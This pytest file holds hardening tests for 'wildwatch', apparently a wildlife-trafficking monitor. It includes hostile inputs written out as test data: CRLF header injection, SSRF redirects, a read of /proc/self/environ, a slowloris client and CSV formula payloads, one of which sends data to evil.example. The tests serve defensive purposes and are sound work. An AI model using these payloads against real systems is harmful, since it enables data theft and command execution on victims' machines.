"""Hostile input and bad luck: each test is one case that once went wrong (a row of the hardening
issue), against real servers on loopback: a `wildwatch serve` process, HTTP servers for feeds and
webhooks, real SQLite files, real monitor processes."""

from __future__ import annotations

import io
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from conftest import free_port, serving, smtp_catcher
from PIL import Image
from test_monitor import RED, colour_classifier, config, jpeg, serve

from wildwatch.monitor.alerts import ConsoleSink, ConsoleSinkConfig, WebhookSink, WebhookSinkConfig
from wildwatch.monitor.fetch import Fetcher, FetchRefused
from wildwatch.monitor.run import Monitor
from wildwatch.store.events import EventStore, EventStoreError

WILDWATCH = str(Path(sys.executable).parent / "wildwatch")
KEY = "k3y-for-tests"


def start_server(*args, env=None) -> tuple[subprocess.Popen, int]:
    port = free_port()
    proc = subprocess.Popen([WILDWATCH, "serve", "--port", str(port), *args], stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, env={**os.environ, **(env or {})})
    for _ in range(300):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
                s.sendall(b"GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                if s.recv(64).startswith(b"HTTP/1.1 200"):
                    return proc, port
        except OSError:
            time.sleep(0.1)
    proc.kill()
    raise AssertionError(proc.stderr.read().decode()[-2000:])


@pytest.fixture(scope="module")
def open_server():
    proc, port = start_server("--header-timeout", "1", "--body-timeout", "2")
    yield port
    proc.terminate()
    proc.wait(10)


@pytest.fixture(scope="module")
def keyed_server():
    proc, port = start_server("--header-timeout", "1", env={"WILDWATCH_API_KEY": KEY})
    yield port
    proc.terminate()
    proc.wait(10)


def raw(port: int, head: str, body: bytes = b"", read_timeout: float = 10.0) -> tuple[int, dict, bytes, float]:
    """Send ``head`` (and ``body``) on a raw socket; (status, headers, body, seconds to the answer)."""
    t0 = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=read_timeout) as s:
        s.sendall(head.encode() + body)
        data = b""
        while b"\r\n\r\n" not in data or len(data.split(b"\r\n\r\n", 1)[1]) < _length(data):
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    seconds = time.monotonic() - t0
    top, _, rest = data.partition(b"\r\n\r\n")
    lines = top.decode("latin-1").split("\r\n")
    headers = {k.lower(): v.strip() for k, v in (ln.split(":", 1) for ln in lines[1:] if ":" in ln)}
    return int(lines[0].split()[1]), headers, rest, seconds


def _length(data: bytes) -> int:
    for line in data.split(b"\r\n\r\n", 1)[0].split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            return int(line.split(b":")[1])
    return 0


def multipart(files: list[tuple[str, bytes]]) -> tuple[str, bytes]:
    boundary = "wwboundary1234"
    parts = b"".join(f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"{n}\"\r\n"
                     f"Content-Type: application/octet-stream\r\n\r\n".encode() + d + b"\r\n" for n, d in files)
    return boundary, parts + f"--{boundary}--\r\n".encode()


def post(port: int, files: list[tuple[str, bytes]], host: str = "localhost", key: str | None = None):
    boundary, body = multipart(files)
    head = (f"POST /v1/classify HTTP/1.1\r\nHost: {host}\r\nContent-Type: multipart/form-data; boundary={boundary}\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n" + (f"X-API-Key: {key}\r\n" if key else "") + "\r\n")
    return raw(port, head, body)


def png_header(width: int, height: int) -> bytes:
    """A PNG whose header declares ``width`` x ``height``: what the service must judge before decoding."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def small_jpeg() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (64, 48), (90, 120, 60)).save(buf, format="JPEG")
    return buf.getvalue()


# ---------------------------------------------------------------- the service


def test_many_large_images_in_one_request_are_refused_before_decoding(open_server):
    # row 1: 16 images of 39.9 Mpx each (each under the per-image limit) once took the server to 2.7 GB
    big = png_header(6300, 6330)
    status, _, body, _ = post(open_server, [(f"big{i}.png", big) for i in range(16)])
    assert status == 413 and b"pixels in all" in body


@pytest.mark.parametrize("width, height", [(7000, 7000), (10000, 10000), (20000, 20000)])
def test_an_image_over_the_pixel_limit_is_413_whatever_its_size(open_server, width, height):
    # row 4: 49 Mpx gave 413 but 100 Mpx a 200 with a per-file error
    status, _, body, _ = post(open_server, [("huge.png", png_header(width, height))])
    assert status == 413 and b"huge.png" in body


def test_the_request_size_is_capped_before_the_body_is_read(open_server):
    # row 3: 15 files of 4 MB were accepted (a per-file cap, no per-request cap)
    head = ("POST /v1/classify HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=x\r\n"
            f"Content-Length: {15 * 4 * 1024 * 1024}\r\n\r\n")
    status, _, body, seconds = raw(open_server, head)  # no body sent at all
    assert status == 413 and b"per request" in body and seconds < 5


def test_the_key_is_checked_before_the_body_is_read(keyed_server):
    # row 2: a 400 MB upload without a key was received and spooled before the 401
    head = ("POST /v1/classify HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=x\r\n"
            "Content-Length: 400000000\r\n\r\n")
    status, _, body, seconds = raw(keyed_server, head, b"x" * 65536)
    assert status == 401 and b"API key" in body and seconds < 5
    assert post(keyed_server, [("a.jpg", small_jpeg())], key=KEY)[0] == 200


def test_a_huge_event_id_is_404_not_500(tmp_path):
    # row 5: GET /v1/events/99999999999999999999/snapshot was a 500 (integer overflow in the store)
    db = tmp_path / "events.db"
    EventStore(db).close()
    proc, port = start_server("--events-db", str(db))
    try:
        for eid in ("99999999999999999999", "9223372036854775808", "0", "-1"):
            status, _, _, _ = raw(port, f"GET /v1/events/{eid}/snapshot HTTP/1.1\r\nHost: localhost\r\n"
                                        "Connection: close\r\n\r\n")
            assert status in (404, 422), eid
    finally:
        proc.terminate()
        proc.wait(10)


def test_slow_clients_are_disconnected(open_server):
    # row 6: 400 slow clients held their sockets for 40 s; none timed out
    socks = []
    for _ in range(50):
        s = socket.create_connection(("127.0.0.1", open_server), timeout=10)
        s.sendall(b"GET /health HTTP/1.1\r\nHost: local")  # and never the rest
        socks.append(s)
    t0 = time.monotonic()
    closed = 0
    for s in socks:
        try:
            closed += s.recv(100) == b""
        except OSError:
            closed += 1
        s.close()
    assert closed == 50 and time.monotonic() - t0 < 8  # --header-timeout 1
    assert raw(open_server, "GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")[0] == 200


def test_a_body_that_trickles_gets_408(open_server):
    boundary, body = multipart([("a.jpg", small_jpeg())])
    t0 = time.monotonic()
    with socket.create_connection(("127.0.0.1", open_server), timeout=10) as s:
        s.sendall((f"POST /v1/classify HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; "
                   f"boundary={boundary}\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body[:10])
        answer = s.recv(4096)
    assert answer.startswith(b"HTTP/1.1 408") and time.monotonic() - t0 < 6  # --body-timeout 2


def test_security_headers_and_the_host_allow_list(open_server, keyed_server):
    # row 16: no CSP / X-Frame-Options / nosniff; any Host accepted without a key (DNS rebinding)
    status, h, _, _ = raw(open_server, "GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    assert status == 200
    assert "default-src 'self'" in h["content-security-policy"] and "frame-ancestors 'none'" in h[
        "content-security-policy"]
    assert h["x-frame-options"] == "DENY" and h["x-content-type-options"] == "nosniff"
    status, _, body, _ = raw(open_server, "GET /health HTTP/1.1\r\nHost: attacker.example\r\nConnection: close\r\n\r\n")
    assert status == 400 and b"not served here" in body
    assert raw(open_server, f"GET /health HTTP/1.1\r\nHost: 127.0.0.1:{open_server}\r\nConnection: close\r\n\r\n")[0] == 200
    # with a key, any name may reach it (a reverse proxy), and the key protects /v1
    assert raw(keyed_server, "GET /health HTTP/1.1\r\nHost: wildwatch.example\r\nConnection: close\r\n\r\n")[0] == 200


def test_the_api_key_help_recommends_the_environment():
    out = subprocess.run([WILDWATCH, "serve", "--help"], capture_output=True, text=True, env={
        **os.environ, "COLUMNS": "200"}, check=False).stdout
    assert "WILDWATCH_API_KEY" in out and "ps" in out


# ---------------------------------------------------------------- alerts and feeds


def apart(folder: Path, gap_s: float = 600) -> None:
    """The photos' file times ``gap_s`` apart, so that each is a sighting of its own: photos of one
    camera less than the monitor's ``burst_gap_s`` apart are one burst, and one sighting."""
    start = time.time() - gap_s * (len(list(folder.iterdir())) + 1)
    for i, p in enumerate(sorted(folder.iterdir())):
        os.utime(p, (start + i * gap_s, start + i * gap_s))


def test_a_hanging_webhook_does_not_hold_back_the_console(tmp_path):
    # row 7: a webhook receiver that hangs made every other alert wait behind it (5 of 20 in 45 s)
    release = threading.Event()

    class Hang(BaseHTTPRequestHandler):
        def do_POST(self):
            release.wait(30)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *a):
            pass

    srv, base = serve(Hang)
    seen: list[float] = []
    sinks = {"hook": WebhookSink(WebhookSinkConfig(url=f"{base}/hook", timeout_s=20)),
             "console": ConsoleSink(ConsoleSinkConfig(), echo=lambda line: seen.append(time.monotonic()))}
    folder = tmp_path / "drop"
    folder.mkdir()
    for i in range(20):
        (folder / f"{i:02d}.jpg").write_bytes(jpeg(RED))
    apart(folder)
    t0 = time.monotonic()
    try:
        mon = Monitor(config(tmp_path, once=True, drain_s=3), colour_classifier, sinks=sinks, status=False)
        mon.run([str(folder)])
        assert len(seen) == 20 and max(seen) - t0 < 10
        counts = mon.outbox.counts()
        assert counts["delivered"] == 20 and counts["pending"] == 20  # the webhook's wait in the outbox
    finally:
        release.set()
        srv.shutdown()


def feed_with(tmp_path, images: list[str]) -> Path:
    feed = tmp_path / "feed.json"
    feed.write_text(json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [
        {"id": f"p{i}", "title": "rhino horn for sale", "image": u} for i, u in enumerate(images)]}))
    return feed


def test_a_feed_cannot_point_the_monitor_at_local_services(tmp_path):
    # row 8: a feed whose image URL is another loopback port, or redirects there, was fetched
    hits = []

    class Internal(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(jpeg(RED))

        def log_message(self, *a):
            pass

    internal, internal_base = serve(Internal)

    class Public(BaseHTTPRequestHandler):
        def do_GET(self):
            if self.path == "/feed.json":
                body = json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [
                    {"id": "a", "title": "x", "image": f"{internal_base}/secret.jpg"},
                    {"id": "b", "title": "y", "image": f"{public_base}/redirect"}]}).encode()
                self.send_response(200)
                self.end_headers()
                self.wfile.write(body)
            else:
                self.send_response(302)
                self.send_header("Location", f"{internal_base}/via-redirect.jpg")
                self.end_headers()

        def log_message(self, *a):
            pass

    public, public_base = serve(Public)
    try:
        stats = Monitor(config(tmp_path, once=True), colour_classifier, status=False).run([f"{public_base}/feed.json"])
        assert hits == [] and stats["sightings"] == 0
        assert sum("non-public address" in e for e in stats["errors"]) == 2
        # an address the user lists is fetched from
        allowed = config(tmp_path, once=True, db=tmp_path / "allowed.db", allow_hosts=["127.0.0.1"])
        stats = Monitor(allowed, colour_classifier, status=False).run([f"{public_base}/feed.json"])
        assert sorted(hits) == ["/secret.jpg", "/via-redirect.jpg"] and stats["sightings"] == 2
    finally:
        internal.shutdown()
        public.shutdown()


def test_the_address_check_covers_names_and_networks():
    f = Fetcher(allow_hosts=["192.168.1.0/24", "nas.lan"], trusted=["http://127.0.0.1:9999/feed.xml"])
    for host, port, ip in (("x", 80, "10.0.0.5"), ("x", 80, "169.254.169.254"), ("x", 80, "::1"),
                           ("x", 80, "::ffff:127.0.0.1"), ("127.0.0.1", 8080, "127.0.0.1"), ("x", 80, "0.0.0.0")):
        with pytest.raises(FetchRefused):
            f.check_peer(host, port, ip)
    f.check_peer("example.org", 80, "93.184.216.34")
    f.check_peer("cam", 80, "192.168.1.20")
    f.check_peer("nas.lan", 80, "10.1.1.1")
    f.check_peer("127.0.0.1", 9999, "127.0.0.1")  # the feed's own origin


@pytest.mark.parametrize("path", ["/dev/zero", "/proc/self/environ", "/dev/urandom", "/sys/kernel/mm"])
def test_a_local_feed_reads_no_special_files(tmp_path, path):
    # row 9: a local feed whose image path is /dev/zero took 3.2 GB in 2 s; /proc/self/environ was read
    feed = feed_with(tmp_path, [path])
    t0 = time.monotonic()
    stats = Monitor(config(tmp_path, once=True), colour_classifier, status=False).run([str(feed)])
    assert stats["frames"] == 0 and time.monotonic() - t0 < 10
    assert any(path in e and ("system file" in e or "not a regular file" in e) for e in stats["errors"])


def test_a_local_file_over_the_cap_is_refused_before_reading(tmp_path):
    big = tmp_path / "big.jpg"
    with open(big, "wb") as f:
        f.truncate(200 << 20)  # sparse: 200 MB declared
    with pytest.raises(FetchRefused, match="larger than"):
        Fetcher(max_bytes=50 << 20).read_file(str(big))


def test_a_trickling_image_stops_at_the_deadline(tmp_path):
    # row 10: an image served one byte every 5 s kept the feed for as long as the server liked
    class Trickle(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", "100000")
            self.end_headers()
            try:
                for _ in range(100):
                    self.wfile.write(b"x")
                    self.wfile.flush()
                    time.sleep(0.5)
            except OSError:
                pass

        def log_message(self, *a):
            pass

    srv, base = serve(Trickle)
    try:
        t0 = time.monotonic()
        with pytest.raises(FetchRefused, match="within 2 s"):
            Fetcher(trusted=[base + "/"], timeout_s=1, deadline_s=2).fetch(f"{base}/slow.jpg")
        assert time.monotonic() - t0 < 4
    finally:
        srv.shutdown()


# ---------------------------------------------------------------- the events store and the monitor process


def monitor_cmd(*args) -> list[str]:
    return [WILDWATCH, "monitor", *map(str, args), "--no-status"]


def test_a_second_monitor_on_the_same_database_refuses_to_start(tmp_path):
    # row 11: two monitors on one --db recorded and alerted 97 of 100 photos twice
    folder = tmp_path / "watch"
    folder.mkdir()
    db = tmp_path / "events.db"
    first = subprocess.Popen(monitor_cmd(folder, "--db", db), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        for _ in range(200):
            if Path(f"{db}.lock").exists() and Path(f"{db}.lock").read_text().startswith("pid"):
                break
            time.sleep(0.1)
        second = subprocess.run(monitor_cmd(folder, "--db", db, "--once"), capture_output=True, text=True, timeout=120, check=False)
        assert second.returncode == 2
        assert "another wildwatch monitor" in second.stderr and f"pid {first.pid}" in second.stderr
        assert "Traceback" not in second.stderr
    finally:
        first.terminate()
        first.wait(30)
    # the lock goes with the process: now it may start
    third = subprocess.run(monitor_cmd(folder, "--db", db, "--once"), capture_output=True, text=True, timeout=120, check=False)
    assert third.returncode == 0, third.stderr


def test_an_empty_or_damaged_database_is_refused_never_replaced(tmp_path):
    # row 12: events.db truncated to 0 bytes gave exit 0 and a new empty database; damage a traceback
    folder = tmp_path / "watch"
    folder.mkdir()
    empty = tmp_path / "empty.db"
    empty.write_bytes(b"")
    proc = subprocess.run(monitor_cmd(folder, "--db", empty, "--once"), capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 2 and "empty (0 bytes)" in proc.stderr and "backup" in proc.stderr
    assert empty.stat().st_size == 0 and len(proc.stderr.strip().splitlines()) == 1
    db = tmp_path / "events.db"
    store = EventStore(db)
    store.db.execute("CREATE TABLE filler (x BLOB)")
    with store.db:
        store.db.executemany("INSERT INTO filler VALUES (?)", [(os.urandom(2000),) for _ in range(200)])
    store.close()
    data = bytearray(db.read_bytes())
    data[4096:4096 + 8192] = os.urandom(8192)  # pages after the first, overwritten
    db.write_bytes(bytes(data))
    proc = subprocess.run(monitor_cmd(folder, "--db", db, "--once"), capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 2 and "damaged" in proc.stderr and ".recover" in proc.stderr
    assert "Traceback" not in proc.stderr and db.read_bytes() == bytes(data)
    with pytest.raises(EventStoreError, match="not an SQLite database"):
        (tmp_path / "text.db").write_text("hello")
        EventStore(tmp_path / "text.db")


def test_exit_codes_say_what_happened(tmp_path):
    # row 13: a source that fails gave exit 2 and the message "error: 1"
    folder = tmp_path / "watch"
    folder.mkdir()
    (folder / "red.jpg").write_bytes(jpeg(RED))
    ok = subprocess.run(monitor_cmd(folder, "--db", tmp_path / "a.db", "--once"), capture_output=True, text=True,
                        timeout=120, check=False)
    assert ok.returncode == 0, ok.stderr
    broken = tmp_path / "broken.mp4"
    broken.write_bytes(b"not a video")
    bad = subprocess.run(monitor_cmd(folder, broken, "--db", tmp_path / "b.db", "--once"), capture_output=True,
                         text=True, timeout=120, check=False)
    assert bad.returncode == 1 and "error: 1" not in bad.stderr
    assert "broken.mp4" in bad.stderr.strip().splitlines()[-1] and "sightings recorded" in bad.stderr
    usage = subprocess.run(monitor_cmd("--db", tmp_path / "c.db"), capture_output=True, text=True, timeout=120, check=False)
    assert usage.returncode == 2 and "no sources" in usage.stderr


def test_a_stream_that_gives_up_is_an_error(tmp_path):
    # row 14: a live stream that gave up after max_retries showed errors: [] and exit 0
    port = free_port()  # nothing listens there
    cfg = config(tmp_path, max_retries=1)
    stats = Monitor(cfg, colour_classifier, status=False).run([f"rtsp://127.0.0.1:{port}/cam"])
    assert any("gave up after 1 failed reconnects" in e for e in stats["errors"])


def test_resume_matches_files_by_resolved_path(tmp_path, shapes_dir):
    # row 15: --resume after a run started with an absolute path redid every file and appended them
    photos = tmp_path / "photos"
    photos.mkdir()
    for p in list((shapes_dir / "red_circles").glob("*.jpg"))[:6]:
        (photos / p.name).write_bytes(p.read_bytes())
    out = tmp_path / "rows.csv"
    subprocess.run([WILDWATCH, "classify", str(photos.resolve()), "--output", str(out), "-q"], check=True,
                   capture_output=True, timeout=300)
    proc = subprocess.run([WILDWATCH, "classify", "photos", "--output", str(out), "--resume", "-q"], cwd=tmp_path,
                          capture_output=True, text=True, timeout=300, check=False)
    assert proc.returncode == 0 and "0 files" in proc.stderr and "6 already done" in proc.stderr
    assert len(out.read_text().strip().splitlines()) == 1 + 6


def test_a_redirect_to_ftp_is_never_followed(tmp_path):
    # issue 28 item 2: a feed image that redirected to ftp://127.0.0.1:PORT made the monitor log in there
    connected = []
    listener = socket.create_server(("127.0.0.1", 0))
    ftp_port = listener.getsockname()[1]

    def accept():
        listener.settimeout(0.5)
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            connected.append(conn.recv(0) == b"")
            conn.sendall(b"220 ready\r\n")
            conn.close()

    stop = threading.Event()
    threading.Thread(target=accept, daemon=True).start()

    class Feed(BaseHTTPRequestHandler):
        def do_GET(self):
            if self.path == "/feed.json":
                body = json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [
                    {"id": "a", "title": "rhino horn", "image": f"{base}/photo.jpg"}]}).encode()
                self.send_response(200)
                self.end_headers()
                self.wfile.write(body)
            else:
                self.send_response(302)
                self.send_header("Location", f"ftp://anonymous:x@127.0.0.1:{ftp_port}/secret.jpg")
                self.end_headers()

        def log_message(self, *a):
            pass

    server, base = serve(Feed)
    try:  # the feed's own host is trusted (the user named it); the redirect's scheme is not
        stats = Monitor(config(tmp_path, once=True), colour_classifier, status=False).run([f"{base}/feed.json"])
        time.sleep(0.5)
        assert connected == [] and stats["frames"] == 0
        assert any("only http and https" in e for e in stats["errors"]), stats["errors"]
    finally:
        stop.set()
        server.shutdown()
        listener.close()


@pytest.mark.parametrize("ip", ["::127.0.0.1", "64:ff9b::7f00:1", "::ffff:7f00:1", "64:ff9b:1::a00:1", "2002:7f00:1::",
                                "2002:c0a8:101::1", "::"])
def test_ipv6_forms_of_private_ipv4_addresses_are_private(ip):
    # issue 28 item 2: IPv6 addresses that embed a private IPv4 address were taken for public ones
    with pytest.raises(FetchRefused):
        Fetcher().check_peer("x", 80, ip)
    Fetcher().check_peer("x", 80, "64:ff9b::5db8:d822")  # NAT64 of a public address stays public


def test_a_line_break_in_a_post_never_reaches_an_email_header_and_a_failing_sink_backs_off(tmp_path):
    # issue 28 item 4: CRLF in a feed item id reached the Subject; the email worker then failed every ~10 ms
    import email

    from wildwatch.monitor.alerts import EmailSink, EmailSinkConfig, Outbox
    from wildwatch.monitor.payloads import SightingAlert

    store = EventStore(tmp_path / "events.db")
    calls = []

    class Broken:
        wants_snapshot = False

        def send(self, alert, key, snapshot):
            calls.append(time.time())
            raise RuntimeError("a bug in a sink")

    with smtp_catcher() as (port, got):
        try:
            sinks = {"mail": EmailSink(EmailSinkConfig(host="127.0.0.1", port=port, starttls=False, sender="ww@example.org",
                                                       to=["ranger@example.org"])), "broken": Broken()}
            outbox = Outbox(store, sinks, base_backoff_s=5)
            hostile = "https://x.example/feed.xml#a\r\nBcc: victim@example.org\r\nX-Evil: 1"
            with store.transaction():
                outbox.enqueue(1, SightingAlert(sighting_id=1, species="rhino", common_name="Rhinoceros", iucn_status="CR",
                                                source=hostile, confidence=0.9), 0, time.time())
            assert outbox.deliver_due() == 1 and len(got) == 1
            msg = email.message_from_bytes(got[0].content)
            assert got[0].rcpt_tos == ["ranger@example.org"] and msg["Bcc"] is None and msg["X-Evil"] is None
            subject = " ".join(msg["Subject"].split())  # unfolded: the text stays in the Subject, as text
            assert "feed.xml#a Bcc: victim@example.org X-Evil: 1" in subject
            for _ in range(20):  # the broken sink's alert waits for its backoff instead of failing in a loop
                outbox.deliver_due()
            assert len(calls) == 1 and outbox.counts()["pending"] == 1
            attempts, error = store.db.execute("SELECT attempts, last_error FROM outbox WHERE sink = 'broken'").fetchone()
            assert attempts == 1 and "a bug in a sink" in error
        finally:
            store.close()


def test_a_database_deleted_under_the_monitor_stops_it_and_alert_keys_follow_the_content(tmp_path):
    # issue 28 item 5: events.db deleted while the monitor ran: no warning, exit 0; the next start
    # re-alerted everything under new idempotency keys
    folder = tmp_path / "watch"
    folder.mkdir()
    for i in range(2):
        (folder / f"red{i}.jpg").write_bytes(jpeg(RED))
    apart(folder)
    db = tmp_path / "live.db"
    mon = Monitor(config(tmp_path, db=db, folder_poll_s=0.2), colour_classifier, status=False)
    raised = []

    def run():
        try:
            mon.run([str(folder)])
        except Exception as exc:  # noqa: BLE001 - what the run raises is what the test looks at
            raised.append(exc)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    for _ in range(100):
        if mon.frames >= 2:
            break
        time.sleep(0.1)
    db.unlink()
    thread.join(10)
    assert not thread.is_alive() and len(raised) == 1 and isinstance(raised[0], EventStoreError)
    assert "deleted while the monitor was writing" in str(raised[0])
    keys = []
    for name in ("a.db", "b.db"):  # the same photos in two new databases: the same keys
        sinks = {"console": ConsoleSink(ConsoleSinkConfig(), echo=lambda line: None)}
        m = Monitor(config(tmp_path, db=tmp_path / name, once=True), colour_classifier, sinks=sinks, status=False)
        m.run([str(folder)])
        keys.append(sorted(k for (k,) in m.store.db.execute("SELECT idempotency_key FROM outbox")))
    assert len(keys[0]) == 2 and keys[0] == keys[1]


def without_root_powers(cmd: list[str]) -> list[str]:
    """``cmd`` run so that file permissions hold for it: root keeps its uid but loses the capability
    to override them (CI runs as root, which a read-only file would not stop)."""
    if os.getuid() != 0:
        return cmd
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", *cmd]


def test_a_read_only_or_full_database_is_said_in_words(tmp_path):
    # issue 28 item 6: a read-only but intact database was called "damaged"; a full disk ended in a traceback
    db = tmp_path / "events.db"
    EventStore(db).close()
    db.chmod(0o444)
    code = ("from wildwatch.store.events import EventStore, EventStoreError\n"
            f"try:\n    EventStore({str(db)!r}, writer=True)\nexcept EventStoreError as exc:\n    print(exc)")
    proc = subprocess.run(without_root_powers([sys.executable, "-c", code]), capture_output=True, text=True,
                          timeout=60, check=False)
    assert "read-only" in proc.stdout and "damaged" not in proc.stdout and ".recover" not in proc.stdout, proc
    db.chmod(0o644)
    # a full disk: SQLite's own "database or disk is full", here from a page limit
    watch = tmp_path / "watch"
    watch.mkdir()
    rng = __import__("numpy").random.default_rng(0)
    for i in range(6):  # red photos full of noise: snapshots larger than the room left
        noisy = rng.normal((200, 30, 30), 20, (300, 400, 3)).clip(0, 255).astype("uint8")
        Image.fromarray(noisy).save(watch / f"red{i}.jpg", quality=95)
    store = EventStore(tmp_path / "full.db", writer=True)
    mon = Monitor(config(tmp_path, once=True), colour_classifier, store=store, status=False)
    store.db.execute(f"PRAGMA max_page_count = {store.db.execute('PRAGMA page_count').fetchone()[0] + 4}")
    with pytest.raises(EventStoreError, match="disk is full") as info:
        mon.run([str(watch)])
    assert "goes on where it stopped" in str(info.value)


def big_png(width: int = 6300, height: int = 6330) -> bytes:
    """A real, decodable PNG of 39.9 Mpx (one colour: a small file, a long decode)."""
    buf = io.BytesIO()
    Image.new("RGB", (width, height), (90, 140, 70)).save(buf, format="PNG", compress_level=1)
    return buf.getvalue()


def test_health_answers_at_once_while_large_uploads_decode(open_server):
    # issue 28 item 8: with 8 clients uploading near-limit images, /health took 2.3 s (median) to 31.6 s
    data = big_png()
    stop = time.monotonic() + 8
    codes, health = [], []

    def client():
        while time.monotonic() < stop:
            codes.append(post(open_server, [("big.png", data)])[0])

    def prober():
        while time.monotonic() < stop:
            health.append(raw(open_server, "GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")[3])
            time.sleep(0.05)

    threads = [threading.Thread(target=client) for _ in range(4)] + [threading.Thread(target=prober)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    health.sort()
    assert codes and set(codes) == {200}, codes
    assert health[len(health) // 2] < 0.2 and health[int(0.95 * len(health))] < 1.0, health


@pytest.mark.parametrize("detect", [False, True], ids=["classify", "detect"])
def test_beyond_the_queue_limit_a_classify_request_gets_503_with_retry_after(tmp_path, detect):
    # issue 28 item 8: decoding has a queue limit; beyond it 503 and Retry-After, before the body is read
    # (serve --detect too: its uploads go through the same decoder pool)
    from wildwatch.inference import Predictor
    from wildwatch.inference.detect import Detector
    from wildwatch.service.app import Limits, create_app

    app = create_app(Predictor.from_file(None), limits=Limits(max_classify_requests=1),
                     detector=Detector() if detect else None)
    with serving(app) as url:
        port = int(url.rsplit(":", 1)[1])
        boundary, body = multipart([("a.jpg", small_jpeg())])
        head = (f"POST /v1/classify HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; "
                f"boundary={boundary}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n")
        with socket.create_connection(("127.0.0.1", port)) as slow:  # holds the one place: half its body sent
            slow.sendall(head.encode() + body[:20])
            time.sleep(0.3)
            status, headers, answer, _ = raw(port, head, body)
            assert status == 503 and headers["retry-after"].isdigit() and "busy" in json.loads(answer)["detail"]
            slow.sendall(body[20:])
            assert slow.recv(12).startswith(b"HTTP/1.1 200")
        assert raw(port, head, body)[0] == 200  # the place is free again


def test_csv_exports_never_start_a_formula(tmp_path):
    # issue 28 item 11: the cases CSV wrote =HYPERLINK(...) and =cmd|... unescaped
    import csv

    from wildwatch.inference.writers import columns_of, get_writer
    from wildwatch.monitor.evidence import post_evidence
    from wildwatch.store.cases import CaseBook, Post, cases_text
    from wildwatch.store.events import Sighting

    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(1,1)", "\t=1+1", "\uff1dcmd|x"]
    store = EventStore(tmp_path / "events.db")
    book = CaseBook(store)
    with store.transaction():
        for i, text in enumerate(hostile):
            book.add_post(Post(f"{text}#{i}", "feed:x", text, f"ivory for sale {text}", text, "m.example"),
                          post_evidence(f"ivory tusks for sale, $3000 {text}", []), [], None)
    rows = list(csv.DictReader(io.StringIO(cases_text(book.list(limit=100), "csv"))))
    assert len(rows) == len(hostile)
    for row in rows:
        for column in ("post", "account", "link", "text"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\uff1d")), (column, row[column])
    assert {r["link"] for r in rows} == {"'" + h for h in hostile}  # kept as text, one apostrophe in front
    sightings = [Sighting(h, "rhino", 0.9, "2026-05-01T05:00:00+00:00", "2026-05-01T05:01:00+00:00", link=h,
                          latitude=-1.29, longitude=-36.8) for h in hostile]
    for row in csv.DictReader(io.StringIO(get_writer("csv").write_sightings(sightings, columns_of(Sighting)))):
        assert row["source"].startswith("'") and row["link"].startswith("'") and row["latitude"] == "-1.29"
    store.close()


def test_small_things_a_new_user_meets_on_the_command_line(tmp_path):
    # issue 28 item 16: no --version; an empty folder exited 0 silently; monitor /nonexistent left a
    # database and a lock file behind; -q hid the progress entirely
    import pty

    from wildwatch import __version__

    version = subprocess.run([WILDWATCH, "--version"], capture_output=True, text=True, timeout=60, check=False)
    assert version.returncode == 0 and version.stdout.strip() == f"wildwatch {__version__}"
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "notes.txt").write_text("no photos here")
    proc = subprocess.run([WILDWATCH, "classify", str(empty)], capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 2 and "no photos found in" in proc.stderr and "JPEG" in proc.stderr
    proc = subprocess.run(monitor_cmd(tmp_path / "nonexistent", "--db", tmp_path / "events.db"), capture_output=True,
                          text=True, timeout=120, check=False)
    assert proc.returncode == 2 and "nonexistent" in proc.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty"]  # no events.db, no events.db.lock
    photos = tmp_path / "photos"
    photos.mkdir()
    for i in range(3):
        (photos / f"{i}.jpg").write_bytes(small_jpeg())
    import fcntl
    import termios

    main, child = pty.openpty()  # stderr a terminal of 80 columns, as for a person at a shell
